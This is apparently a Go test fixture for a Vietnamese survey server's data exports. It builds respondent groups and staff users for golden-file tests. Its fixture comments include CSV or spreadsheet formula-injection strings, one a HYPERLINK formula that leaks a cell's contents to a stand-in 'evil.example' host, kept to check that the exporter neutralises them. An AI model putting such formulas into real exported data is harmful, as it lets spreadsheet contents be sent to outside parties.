package server

import (
	"context"
	"fmt"
	"net/http"
	"testing"
	"time"

	"hailong/survey"
)

// The exports are tested over one fixed set of responses, stored through
// the store (ImportResponses, then a rebuild of the rollups), so the golden
// files are exact.

// exportFixedNow is the clock of the export tests: the default period and
// the forms in force are those of June 2025.
var exportFixedNow = time.Date(2025, 6, 15, 10, 0, 0, 0, survey.Zone())

// fixtureComments are written by the respondents of the fixture: formulas
// for a spreadsheet to refuse, and plain Vietnamese with CSV's special
// characters.
var fixtureComments = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`,
	"+84 912 345 678",
	"-2+3",
	"@SUM(A1:A9)",
	"\t=1+1",
	"\r=1+1",
	"Cán bộ nhiệt tình, \"rất\" chu đáo;\nxin cảm ơn.",
	"Thủ tục nhanh gọn",
}

// fixtureGroup is a run of responses of one agency, area and month.
type fixtureGroup struct {
	agency, area, month string
	people              []survey.Respondent
}

// people repeats a respondent n times.
func people(n int, r survey.Respondent) []survey.Respondent {
	out := make([]survey.Respondent, n)
	for i := range out {
		out[i] = r
	}
	return out
}

func resp(gender, age, edu, occ string) survey.Respondent {
	return survey.Respondent{Gender: gender, AgeBand: age, Education: edu, Occupation: occ}
}

// fixtureGroups: Sở Tư pháp in January has five people alike (shown whole),
// five men of 50–64 who share only gender and age (shown so far), and two
// people of their own (shown nothing); in February five of the January
// loners' kind (shown whole). Lâm Bình (a district) and Thượng Lâm (a
// commune) have land and justice responses over two months.
var fixtureGroups = []fixtureGroup{
	{"so-tu-phap", "tu-phap", "2025-01", concat(
		people(5, resp("female", "25to34", "university", "civil_servant")),
		people(3, resp("male", "50to64", "secondary", "farmer")),
		people(2, resp("male", "50to64", "primary", "farmer")),
		people(1, resp("female", "25to34", "university", "business")),
		people(1, resp("", "", "", "")),
	)},
	{"so-tu-phap", "tu-phap", "2025-02", people(5, resp("female", "25to34", "university", "business"))},
	{"lam-binh", "dat-dai", "2025-01", people(4, resp("male", "35to49", "high_school", "farmer"))},
	{"lam-binh", "tu-phap", "2025-01", people(3, resp("female", "", "", ""))},
	{"lam-binh", "dat-dai", "2025-02", people(6, resp("", "65plus", "", "retired"))},
	{"x-thuong-lam", "lao-dong", "2025-02", people(2, resp("other", "under25", "vocational", "student"))},
}

func concat(parts ...[]survey.Respondent) []survey.Respondent {
	var out []survey.Respondent
	for _, p := range parts {
		out = append(out, p...)
	}
	return out
}

// fixtureCount is the number of responses of the fixture.
func fixtureCount() int {
	n := 0
	for _, g := range fixtureGroups {
		n += len(g.people)
	}
	return n
}

// storeFixture stores the responses and rebuilds the rollups. Answers are
// spread over the scale with some "not applicable", every question of the
// form in force is answered, channels and verification vary.
func storeFixture(t *testing.T, env *testEnv) {
	t.Helper()
	storeGroups(t, env, fixtureGroups, 0, func(i int) bool { return i%4 == 0 })
}

// storeGroups stores the groups' responses, numbered from first, verified
// as the function says, then rebuilds the rollups.
func storeGroups(t *testing.T, env *testEnv, groups []fixtureGroup, first int, verified func(i int) bool) {
	t.Helper()
	ctx := context.Background()
	cat, err := env.store.Catalog(ctx)
	if err != nil {
		t.Fatal(err)
	}
	var rs []survey.Response
	i := first
	for _, g := range groups {
		m, err := survey.ParseMonth(g.month)
		if err != nil {
			t.Fatal(err)
		}
		f, err := cat.FormFor(g.area, exportFixedNow)
		if err != nil {
			t.Fatal(err)
		}
		for _, p := range g.people {
			at := m.Start().Add(time.Duration(i-first+1) * 7 * time.Hour)
			var answers []survey.Answer
			for j, q := range f.Questions(g.area) {
				v := 1 + (i*7+j*3)%5
				if (i+j)%11 == 0 {
					v = survey.NotApplicable
				}
				answers = append(answers, survey.Answer{Code: q.Code, Value: v})
			}
			rs = append(rs, survey.Response{
				ID: fmt.Sprintf("fixture-key-%04d", i), Agency: g.agency, Area: g.area, FormID: f.ID, FormVersion: f.Version,
				Channel: survey.Channels[i%len(survey.Channels)], Verified: verified(i), Lang: survey.Vi, Answers: answers,
				Comment: fixtureComments[i%len(fixtureComments)], Respondent: p, SubmittedAt: at, ReceivedAt: at.Add(time.Minute),
			})
			i++
		}
	}
	if n, err := env.store.ImportResponses(ctx, rs); err != nil || n != len(rs) {
		t.Fatalf("import: %d, %v", n, err)
	}
	if err := env.store.RebuildRollups(ctx, nil); err != nil {
		t.Fatal(err)
	}
}

// exportEnv is a server with the fixture and callers of each kind.
type exportEnv struct {
	*testEnv
	admin, inspector, staff *staffUser
}

func newExportEnv(t *testing.T) *exportEnv {
	t.Helper()
	saved := exportNow
	exportNow = func() time.Time { return exportFixedNow }
	t.Cleanup(func() { exportNow = saved })
	env := newTestEnv(t)
	storeFixture(t, env)
	e := &exportEnv{testEnv: env, admin: newAdmin(t, env)}
	pw := insertUser(t, env, "inspector", survey.RoleInspector)
	e.inspector = loginAs(t, env, "inspector", pw)
	e.inspector.token = e.inspector.fetchToken(t, "inspector")
	pw = insertUser(t, env, "staff-tp", survey.RoleStaff, "so-tu-phap")
	e.staff = loginAs(t, env, "staff-tp", pw)
	e.staff.token = e.staff.fetchToken(t, "staff")
	return e
}

// get calls an export with the user's token (Accept-Language as given).
func (e *exportEnv) get(t *testing.T, u *staffUser, path string, lang string) httpResult {
	t.Helper()
	hdr := map[string]string{"Authorization": "Bearer " + u.token}
	if lang != "" {
		hdr["Accept-Language"] = lang
	}
	r := doRequest(t, nil, http.MethodGet, e.http.URL+path, "", hdr)
	return r
}
